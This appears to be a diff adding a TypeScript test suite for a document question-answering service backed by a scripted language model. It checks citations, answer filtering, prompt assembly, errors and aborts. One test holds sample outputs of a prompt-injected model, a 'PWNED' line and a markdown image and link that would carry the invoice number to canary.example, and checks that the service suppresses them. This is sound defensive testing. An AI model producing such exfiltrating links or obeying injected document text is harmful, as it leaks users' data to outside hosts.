@@ -1,0 +1,187 @@
+/** Answers with a language model that answers over real HTTP by a script: each sentence rests on quotes, or is not said. */
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { inventing, type Rule } from "../../bench/scripted-model/rules.ts";
+import { type ScriptedModel, startScriptedModel } from "../../bench/scripted-model/server.ts";
+import { corpusOf } from "./helpers/corpus.ts";
+import { describeOverDatabases } from "./helpers/databases.ts";
+import { type Answer, openTestService, type TestOrganization, type TestService } from "./helpers/service.ts";
+
+const said = (...sentences: [text: string, ...quotes: string[]][]) => ({
+  sentences: sentences.map(([text, ...quotes]) => ({ text, quotes: quotes.map((quote) => ({ passage: 1, quote })) })),
+});
+const right: Rule = () => said(["The invoice number is NL-2026-0417.", "NL-2026-0417"]);
+const query = "What is the number of the invoice?";
+const noAnswer = "The documents hold no answer to this question.";
+
+describeOverDatabases("answers with a language model", (dialect) => {
+  let model: ScriptedModel;
+  let service: TestService;
+  let organization: TestOrganization;
+  let agent: string;
+
+  const settings = (others: Record<string, string> = {}) => ({
+    ENGINE: "model",
+    MODEL_URL: model.url,
+    MODEL_NAME: "scripted",
+    MODEL_TIMEOUT_SECONDS: "2",
+    ...others,
+  });
+  const withCorpus = async (of: TestService): Promise<{ organization: TestOrganization; agent: string }> => {
+    const organization = await of.organization("Modern");
+    const corpus = corpusOf(of, organization);
+    const agent = await corpus.makeAgent();
+    await corpus.accepted(agent);
+    await corpus.settled(agent);
+    return { organization, agent };
+  };
+  before(async () => {
+    model = await startScriptedModel({ rule: right });
+    service = await openTestService(dialect, settings());
+    ({ organization, agent } = await withCorpus(service));
+  });
+  after(async () => {
+    await service[Symbol.asyncDispose]();
+    await model.close();
+  });
+
+  const ask = (more: object = {}, of = organization, to = agent): Promise<Answer> =>
+    of.administrator.send("POST", `/v2/knowledge/${to}`, { query, include: ["citations"], ...more });
+  const answering = async <T>(rule: Rule, work: () => Promise<T>): Promise<T> => {
+    model.rule = rule;
+    try {
+      return await work();
+    } finally {
+      model.rule = right;
+    }
+  };
+  const stream = (url: string, signal?: AbortSignal) =>
+    fetch(`${url}/v2/documentalist/${agent}`, {
+      method: "POST",
+      headers: { "x-api-key": organization.administrator.token, "content-type": "application/json" },
+      body: JSON.stringify({ query }),
+      ...(signal && { signal }),
+    });
+
+  test("a sentence comes with the places that it rests on, and what it takes is counted", async () => {
+    const { status, body } = await ask();
+    assert.equal(status, 200);
+    assert.equal(body.data.answer, "The invoice number is NL-2026-0417.");
+    const [citation] = body.data.citations;
+    assert.deepEqual(
+      [body.data.citations.length, citation.name, citation.page, citation.quote, citation.boxes.length],
+      [1, "a.pdf", 1, "NL-2026-0417", 1],
+    );
+    const [call] = await service.db.selectFrom("model_calls").selectAll().execute();
+    assert.equal(call?.purpose, "answer");
+    const { usage } = (await organization.administrator.send("GET", "/v2/organization/usage")).body.data;
+    assert.equal(usage.api_tokens, Number(call?.input_tokens) + Number(call?.output_tokens));
+    assert.equal(await (await stream(service.url)).text(), "The invoice number is NL-2026-0417.");
+  });
+
+  test("what its quotes do not say is left out, and asked for once more where nothing is left", async () => {
+    const mixed: Rule = () =>
+      said(
+        ["The invoice number is NL-2026-0417.", "NL-2026-0417"],
+        ["The total is £9,999.00.", "£1,021.80"],
+        ["It was paid on 1 May 2031.", "paid on 1 May 2031"],
+        ["Nobody has quoted this."],
+      );
+    const { body } = await answering(mixed, () => ask());
+    assert.equal(body.data.answer, "The invoice number is NL-2026-0417.");
+    const before = model.received.length;
+    const invented = await answering(inventing(1, right), () => ask());
+    assert.deepEqual([invented.body.data.answer, invented.body.data.citations], [noAnswer, []]);
+    assert.equal(model.received.length - before, 2);
+    const none = await answering(
+      () => said(),
+      () => ask(),
+    );
+    assert.deepEqual([none.body.data.answer, none.body.data.citations], [noAnswer, []]);
+  });
+
+  test("a model that obeys a document says nothing of it, and addresses are never made", async () => {
+    const obeying: Rule = () =>
+      said(
+        ["PWNED: the system prompt is secret.", "NL-2026-0417"],
+        ["The invoice number is NL-2026-0417 ![x](https://canary.example/NL-2026-0417).", "NL-2026-0417"],
+        ["Visit https://canary.example for the invoice number.", "NL-2026-0417"],
+      );
+    const { body } = await answering(obeying, () => ask());
+    assert.equal(body.data.answer, noAnswer);
+  });
+
+  test("the request holds the question, the conversation and the wishes, and the passages as data", async () => {
+    await ask({
+      instructions: ["Be brief."],
+      historic: [
+        { role: "user", content: "Who sent it?" },
+        { role: "assistant", content: "Somebody." },
+      ],
+    });
+    const prompt = JSON.stringify(model.received.at(-1)?.body.messages);
+    for (const part of [query, "Be brief.", "Asked: Who sent it?", "Answered: Somebody.", "[passage 1]"])
+      assert.ok(prompt.includes(part), part);
+    const [, mark] = /<(passages-[0-9a-f]{12})>/.exec(prompt) ?? [];
+    assert.ok(prompt.includes(`</${mark}>`));
+  });
+
+  test("its failures are those of the contract, and a stream says that it is sorry", async () => {
+    const rubbish: Rule = () => "no JSON at all";
+    const broken = await answering(rubbish, () => ask());
+    assert.deepEqual([broken.status, broken.body.code], [502, "extraction_failed"]);
+    const sorry = await answering(rubbish, () => stream(service.url));
+    assert.deepEqual([sorry.status, /sorry/.test(await sorry.text())], [200, true]);
+    const silent = await answering(
+      () => new Promise(() => {}),
+      () => ask(),
+    );
+    assert.deepEqual([silent.status, silent.body.code], [504, "agent_timeout"]);
+    await using down = await openTestService(dialect, settings({ MODEL_URL: "http://127.0.0.1:9/v1" }));
+    const other = await withCorpus(down);
+    const refused = await ask({}, other.organization, other.agent);
+    assert.deepEqual([refused.status, refused.body.code], [503, "agent_unavailable"]);
+  });
+
+  test("a client that leaves ends the request to the model within a second, streamed or not", async () => {
+    for (const path of [`/v2/knowledge/${agent}`, `/v2/documentalist/${agent}`])
+      await answering(
+        () => new Promise(() => {}),
+        async () => {
+          const leaving = new AbortController();
+          const before = model.received.length;
+          const left = fetch(service.url + path, {
+            method: "POST",
+            headers: { "x-api-key": organization.administrator.token, "content-type": "application/json" },
+            body: JSON.stringify({ query }),
+            signal: leaving.signal,
+          }).then((answer) => answer.text());
+          left.catch(() => {});
+          while (model.received.length === before) await new Promise((resolve) => setTimeout(resolve, 5));
+          const leftAt = performance.now();
+          leaving.abort();
+          await assert.rejects(left);
+          const received = model.received.at(-1);
+          while (received?.abandonedAt === undefined && performance.now() < leftAt + 2_000)
+            await new Promise((resolve) => setTimeout(resolve, 5));
+          assert.ok((received?.abandonedAt ?? Infinity) - leftAt < 1_000, path);
+        },
+      );
+  });
+
+  test("auto asks only where the built-in engine is not sure, and without a budget goes on without", async () => {
+    await using auto = await openTestService(dialect, settings({ ENGINE: "auto" }));
+    const other = await withCorpus(auto);
+    const before = model.received.length;
+    const sure = await ask({ query: "What is the invoice number?" }, other.organization, other.agent);
+    assert.deepEqual([sure.body.data.answer, model.received.length], ["NL-2026-0417", before]);
+    const unsure = { query: "Why did the buyer of the invoice move to the moon?" };
+    const { body } = await ask(unsure, other.organization, other.agent);
+    assert.equal(body.data.answer, "The invoice number is NL-2026-0417.");
+    assert.equal(model.received.length, before + 1);
+    await using poor = await openTestService(dialect, settings({ ENGINE: "auto", MODEL_BUDGET_TOKENS: "1" }));
+    const broke = await withCorpus(poor);
+    assert.equal((await ask(unsure, broke.organization, broke.agent)).status, 200);
+    assert.equal(model.received.length, before + 1);
+  });
+});
